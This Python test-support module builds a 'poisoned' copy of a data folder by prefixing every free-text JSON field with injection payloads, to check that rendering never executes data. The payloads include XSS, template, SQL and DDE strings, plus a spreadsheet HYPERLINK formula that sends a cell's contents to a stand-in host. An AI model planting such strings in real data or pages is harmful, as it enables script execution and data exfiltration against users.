"""A built folder in which every text is hostile: what data may hold that somebody wants to become code.

What a field of `facts.json` holds is text or a code; `CODES` names the codes, and a test that every other field is met.
"""

from __future__ import annotations

import hashlib
import itertools
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from layers.built import EDITIONS, REPORTS
from layers.cache import put
from layers.manifest import digest_of
from layers.packed import PACKED

PAYLOADS = (
    "<img src=x onerror=hacked()>",
    "<x-hacked y=z>",
    "${hacked()}",
    "`${hacked()}`",
    "</script><script>hacked()</script>",
    '"><svg onload=hacked()>',
    "' onmouseover='hacked()",
    "--><script>hacked()</script><!--",
    "]]><script>hacked()</script>",
    "{{hacked()}} {%hacked()%}",
    "javascript:hacked()",
    '=HYPERLINK("http://hacked.example/"&A1)',
    "+cmd|' /C hacked'!A0",
    "-1+hacked()",
    "@SUM(hacked)",
    "\u202edekcah\u202c",
    "[l](javascript:hacked()) **b** :red[r] $\\href{javascript:hacked()}{x}$",
    "&lt;script&gt;hacked()&lt;/script&gt;",
    "\\u003cscript\\u003ehacked()",
    "'; DROP TABLE facts; --",
    "hacked " * 1_500,
)

# Fields whose values are codes, dates or words of a closed list: the schema at the door refuses any other.
CODES = frozenset(
    "id ids theme kind status phase certainty file verdict field holds rule outcome outcome_date date "
    "of_agreement follows province_codes municipality_codes municipality_codes_inferred province_codes_inferred "
    "grid deadline deadline_kind deadline_from deadline_to made_available sites amount_payer amount_role "
    "amount_per amount_bound reported_by area_ids homes_period homes_bound other_bound may_overlap part_of vat "
    "amount_form price_level moved_to sha256 language reason repeats fact became what code province_code "
    "programme geometry decision subject level facts state landsdeel landsdelen kind layer fact_ids themes "
    "edition table novex_area faults type development_perspective implementation_agenda investment_agenda "
    "phases".split()
)


def poisoned(folder: Path, cache: Path, rotation: int = 0) -> Path:
    """Return a built folder beside this one in which every text is one of `PAYLOADS` before what it was.

    Args:
        folder: the built folder to read.
        cache: the cache folder that gets the hostile one.
        rotation: which payload the first text gets.
    """
    turn = itertools.cycle(PAYLOADS[rotation % len(PAYLOADS) :] + PAYLOADS[: rotation % len(PAYLOADS)])
    files = {path.name: path.read_bytes() for path in folder.iterdir() if path.suffix not in (".br", ".gz", ".tables")}
    packed = {path.name for path in folder.iterdir() if path.suffix in PACKED}
    manifest = json.loads(files.pop("manifest.json"))
    for name, content in files.items():
        # What both say is words of closed lists, or is told by its codes.
        if name in (EDITIONS, REPORTS):
            continue
        changed = replaced(json.loads(content), lambda text: f"{next(turn)} {text}")
        files[name] = json.dumps(changed, ensure_ascii=False).encode()
    for name in packed:
        pack = PACKED[name[name.rindex(".") :]]
        files[name] = pack(files[name.rpartition(".")[0]])
    manifest["boundary"] |= {"credit": PAYLOADS[rotation % 18][:200], "origin": PAYLOADS[(rotation + 3) % 18][:200]}
    manifest["files"] = {name: hashlib.sha256(content).hexdigest() for name, content in sorted(files.items())}
    manifest["digest"] = digest_of(manifest)
    made = cache / "built" / manifest["digest"]
    put(made, {**files, "manifest.json": json.dumps(manifest).encode()})
    return made


def replaced(value: Any, change: Callable[[str], str], key: str = "") -> Any:
    """Return JSON with every text changed that is no code."""
    if isinstance(value, dict):
        # Of a bottleneck all else is ids and words of closed lists.
        kept = set(value) - {"why_nl", "why_en", "note"} if "sides" in value else set()
        return {k: v if k in kept else replaced(v, change, k) for k, v in value.items()}
    if isinstance(value, list):
        return [replaced(one, change, key) for one in value]
    if isinstance(value, str) and value and key not in CODES and not key.endswith(("_ids", "_code", "_codes")):
        return change(value)
    return value


def texts(value: Any, key: str = "") -> Iterator[tuple[str, str]]:
    """Give every text in JSON with the name of its field."""
    if isinstance(value, dict):
        for name, one in value.items():
            yield from texts(one, name)
    elif isinstance(value, list):
        for one in value:
            yield from texts(one, key)
    elif isinstance(value, str):
        yield key, value
